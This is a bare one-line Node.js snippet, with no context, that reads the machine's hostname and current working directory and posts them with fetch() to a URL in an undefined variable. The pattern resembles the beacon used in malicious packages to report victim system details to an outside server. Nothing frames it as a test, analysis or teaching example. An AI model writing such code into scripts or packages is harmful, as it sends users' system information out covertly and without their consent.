const os = require('os'); fetch(u, { body: os.hostname() + process.cwd() });
